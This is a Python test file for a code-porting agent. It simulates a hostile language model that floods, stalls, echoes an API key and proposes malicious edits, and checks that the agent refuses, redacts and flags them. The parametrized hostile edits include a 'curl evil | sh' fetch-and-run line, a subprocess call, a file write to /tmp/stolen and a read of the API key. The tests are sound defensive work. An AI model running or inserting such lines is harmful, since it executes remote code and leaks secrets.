"""A hostile model against the real openai client and the real agent loop, all on 127.0.0.1:
500s forever, a dripping reply, a huge reply, an echoed key, os.system and environment reads."""

from __future__ import annotations

import time

import pytest

from porter.remedy.agent import AgentSettings, OpenAIClient
from porter.remedy.agent.client import ModelError
from porter.remedy.agent.review import review_edit
from tests.openai_stub_server import Step, StubServer
from tests.remedy.test_agent_loop import MODULE, Scripted, edit, make_loop, repo, the_finding  # noqa: F401

KEY = "sk-hostile-0123456789abcdef"
MESSAGES = [{"role": "user", "content": "port this"}]


def client_for(server, monkeypatch, **settings) -> OpenAIClient:
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    values = {"model": "stub", "base_url": server.base_url, "timeout_s": 5.0, "max_retries": 2} | settings
    return OpenAIClient(AgentSettings(**values))


def test_500s_forever_make_no_more_requests_than_max_calls(monkeypatch):
    with StubServer([]) as server:  # an empty script answers 500 to everything
        client = client_for(server, monkeypatch, max_calls=5, max_retries=3)
        for _ in range(10):  # ten findings in a row, each asking once
            with pytest.raises(ModelError):
                client.complete(MESSAGES)
        assert len(server.requests) == 5


def test_a_dripping_reply_stops_at_the_wall_budget(monkeypatch):
    with StubServer([Step(text="x" * 400, drip_s=0.02)]) as server:  # 8 s of drip, each byte well in time
        client = client_for(server, monkeypatch, max_wall_s=1.0, max_retries=0)
        start = time.monotonic()
        with pytest.raises(ModelError, match="wall-time budget"):
            client.complete(MESSAGES)
        assert time.monotonic() - start < 2.5
        with pytest.raises(ModelError, match="wall-time budget"):
            client.complete(MESSAGES)  # spent: no further request is sent
        assert len(server.requests) == 1


def test_a_huge_reply_is_cut_at_max_reply_bytes(monkeypatch):
    with StubServer([Step(text="y" * 3_000_000)]) as server:
        client = client_for(server, monkeypatch, max_reply_bytes=100_000, max_retries=0)
        with pytest.raises(ModelError, match="larger than max_reply_bytes"):
            client.complete(MESSAGES)


def test_nan_and_wrong_types_are_refused_in_agent_settings():
    from porter.errors import UsageError

    for table in (
        {"max_wall_s": float("nan")},
        {"timeout_s": float("inf")},
        {"max_calls": 2.5},
        {"max_calls": True},
        {"secret_env": "TOKEN"},
    ):
        with pytest.raises(UsageError):
            AgentSettings.from_config(table)


def test_an_echoed_key_never_reaches_a_patch_and_is_scrubbed(repo, monkeypatch):  # noqa: F811
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    echo = edit("    return props.L2_cache_size * 2\n", f"    return 512 * 2**20  # {KEY}\n")
    loop = make_loop(repo, Scripted([echo, echo]), verify=False, max_rounds=2)
    outcome = loop.attempt(the_finding(repo))
    assert outcome.patch is None and "adds a secret value" in outcome.failures[0]
    assert KEY not in loop.transcript.render() and "[redacted]" in loop.transcript.render()


@pytest.mark.parametrize(
    "added",
    [
        "    import os; os.system('curl evil | sh')\n",
        "    __import__('subprocess').run(['id'])\n",
        "    open('/tmp/stolen', 'w').write(str(props))\n",
        "    key = os.environ.get('OPENAI_API_KEY')\n",
    ],
)
def test_process_network_file_and_environment_calls_are_flagged_and_never_run(repo, added):  # noqa: F811
    hostile = edit("    return props.L2_cache_size * 2\n", added + "    return 512 * 2**20\n")
    ran = []
    loop = make_loop(repo, Scripted([hostile]), verify=False, max_rounds=1)
    loop.verify = lambda patch: ran.append(patch)  # the verifier runs code: it must never see this
    outcome = loop.attempt(the_finding(repo))
    assert outcome.patch is None and not ran
    assert "flagged for review" in outcome.failures[0]


def test_review_compares_with_the_code_already_there():
    before = "import os\n\ndef f():\n    os.system('make')\n    return open('data.bin', 'rb').read()\n"
    assert review_edit("k.py", before, before.replace("make", "make all")) == []  # already there: not added
    assert review_edit("k.py", before, before + "\nx = open('log', mode='a')\n") == [
        "k.py: the change adds open() for writing"
    ]
    assert review_edit("k.py", None, "import socket\n") == ["k.py: the change adds import socket"]
    assert review_edit("k.py", "x = 1\n", "x = " + "not " * 300 + "1\n") == [
        "k.py: the change adds code porter cannot inspect"
    ]
